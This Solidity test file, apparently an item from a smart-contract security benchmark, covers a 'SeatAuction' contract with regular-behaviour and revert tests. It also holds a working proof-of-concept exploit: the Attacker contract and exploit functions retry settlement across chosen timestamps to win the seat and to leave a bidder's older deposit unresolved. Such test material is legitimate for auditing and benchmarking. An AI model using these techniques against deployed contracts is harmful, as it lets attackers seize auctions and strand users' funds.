// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "./SeatAuction.sol";

// assay-canary-3b81a415-1376-45f5-85c4-878d4bfa79e0

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

/// Takes no ether.
contract Closed {}

contract Bidder {
    SeatAuction internal auction;

    constructor(SeatAuction _auction) public {
        auction = _auction;
    }

    function() external payable {}

    function bid(uint256 price) public {
        auction.bid.value(price)();
    }

    function withdraw() public {
        auction.withdrawRefund();
    }

    function resign() public {
        auction.resign();
    }
}

// Ends the auction in a second in which the seat falls to itself, and in no other.
contract Attacker is Bidder {
    constructor(SeatAuction _auction) public Bidder(_auction) {}

    function run() external returns (bool) {
        (bool done, ) = address(this).call(abi.encodeWithSelector(this.attempt.selector));
        return done;
    }

    function attempt() external {
        auction.settle();
        require(auction.operator() == address(this), "not in this second");
    }

    function close() external {
        auction.settle();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    SeatAuction internal auction;
    Bidder[3] internal people;
    Attacker internal mallory;

    function() external payable {}

    function setUp() public {
        vm.warp(1700000000 - 400 days);
        auction = new SeatAuction(address(this));
        auction.start(2 ether, 6 ether);
        for (uint256 i = 0; i < 3; i++) {
            people[i] = new Bidder(auction);
            vm.deal(address(people[i]), i == 0 ? 13 ether : 10 ether);
        }

        // The auction of the year before: the last bidder leaves its deposit where it is.
        people[0].bid(3 ether);
        people[2].bid(2 ether);
        vm.warp(1700000000 - 378 days);
        auction.settle();

        vm.warp(1700000000);
        auction.start(2 ether, 6 ether);
        mallory = new Attacker(auction);
        vm.deal(address(mallory), 6 ether);
        for (uint256 i = 0; i < 3; i++) people[i].bid(6 ether);
    }

    function test_Regular() public {
        require(auction.bidderCount() == 3, "three bidders");
        require(auction.refundOf(address(people[2])) == 2 ether, "due since last year");
        people[2].withdraw();
        vm.warp(1700000000 + 22 days);

        uint256 before = address(this).balance;
        auction.settle();
        require(address(this).balance == before + 6 ether, "price paid to the treasury");
        uint256 seated = 0;
        for (uint256 i = 0; i < 3; i++) {
            if (auction.operator() == address(people[i])) {
                seated++;
                continue;
            }
            people[i].withdraw();
            require(address(people[i]).balance == 10 ether, "deposit returned");
        }
        require(seated == 1 && address(auction).balance == 0, "one operator, nothing kept");
        vm.warp(now + 366 days);
        auction.start(1 ether, 2 ether);
        vm.warp(now + 22 days);
        auction.settle();
        require(auction.biddingEnds() == 0, "nobody bid");
        auction.start(1 ether, 2 ether);

        // a list full of low bids keeps nobody out who bids more
        for (uint256 i = 0; i < 64; i++) {
            vm.deal(address(0x1000 + i), 1 ether);
            vm.prank(address(0x1000 + i));
            auction.bid.value(1 ether)();
        }
        people[0].bid(1.5 ether);
        require(auction.bidderCount() == 64 && auction.refundOf(address(0x103f)) == 1 ether, "the last of the lowest made room");
        vm.prank(address(0x103f));
        auction.withdrawRefund();
        auction.setTreasury(address(0x7EA));
        vm.warp(now + 22 days);
        auction.settle();
        require(auction.operator() == address(people[0]) && address(0x7EA).balance == 1.5 ether, "the highest bid");
        people[0].resign();
        require(auction.operator() == address(0), "resigned");
        auction.transferOwnership(address(0xA9A));
        vm.prank(address(0xA9A));
        auction.renounceOwnership();
        require(auction.owner() == address(0), "renounced");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Only the owner starts auctions, at prices that make sense, once at a time.
    function test_RefusesAuctions() public {
        vm.expectRevert("seat not free");
        auction.start(1, 2);
        SeatAuction other = new SeatAuction(address(this));
        vm.expectRevert("bad prices");
        other.start(0, 2);
        vm.expectRevert("bad prices");
        other.start(2, 1);
        vm.expectRevert("bidding not over");
        other.settle();
        vm.expectRevert("bidding not over");
        auction.settle();
        vm.warp(now + 22 days);
        auction.settle();
        vm.expectRevert("seat not free");
        auction.start(1, 2);
        vm.expectRevert("not the operator");
        auction.resign();
        vm.expectRevert("zero treasury");
        auction.setTreasury(address(0));
        vm.expectRevert("zero treasury");
        new SeatAuction(address(0));
    }

    function test_RefusesStrangers() public {
        address who = address(people[0]);
        bytes memory why = "Ownable: caller is not the owner";
        SeatAuction other = new SeatAuction(address(this));
        refuses(who, why);
        other.start(1, 2);
        refuses(who, why);
        auction.setTreasury(address(people[0]));
        refuses(who, why);
        auction.transferOwnership(who);
        refuses(who, why);
        auction.renounceOwnership();
        vm.expectRevert("Ownable: new owner is the zero address");
        auction.transferOwnership(address(0));
    }

    /// Bids in time and in range, and refunds that are due and taken.
    function test_RefusesBids() public {
        vm.deal(address(0x1000), 10 ether);
        refuses(address(0x1000), "price out of range");
        auction.bid.value(1 ether)();
        refuses(address(0x1000), "price out of range");
        auction.bid.value(6 ether + 1)();
        refuses(address(0x1000), "nothing due");
        auction.withdrawRefund();
        address closed = address(new Closed());
        vm.deal(closed, 3 ether);
        vm.prank(closed);
        auction.bid.value(3 ether)();
        for (uint160 i = 0; i < 60; i++) {
            vm.deal(address(0x2000 + i), 2 ether);
            vm.prank(address(0x2000 + i));
            auction.bid.value(2 ether)();
        }
        refuses(address(0x1000), "list is full");
        auction.bid.value(2 ether)();
        vm.warp(now + 21 days);
        refuses(address(0x1000), "no bidding");
        auction.bid.value(3 ether)();
        auction.settle();
        refuses(closed, "refund failed");
        auction.withdrawRefund();
    }

    function exploit() public {
        mallory.bid(6 ether);
        uint256 time = auction.biddingEnds();
        for (uint256 i = 0; i < 4; i++) {
            vm.warp(time + i);
            if (mallory.run()) break;
        }
    }

    function test_Exploit() public {
        exploit();
        require(auction.operator() == address(mallory), "somebody else");
    }

    /// What the last bidder can still get.
    function dueToTheLast() public view returns (uint256) {
        return auction.refundOf(address(people[2])) + auction.bidOf(address(people[2]));
    }

    // In a second in which the first bidder becomes the operator.
    function exploit2() public {
        uint256 time = auction.biddingEnds();
        vm.warp(time + (3 - (time % 3)));
        mallory.close();
    }

    function test_Exploit2() public {
        exploit2();
        require(dueToTheLast() == 6 ether, "the older deposit is still due");
    }

    function target() public view returns (address) {
        return address(auction);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
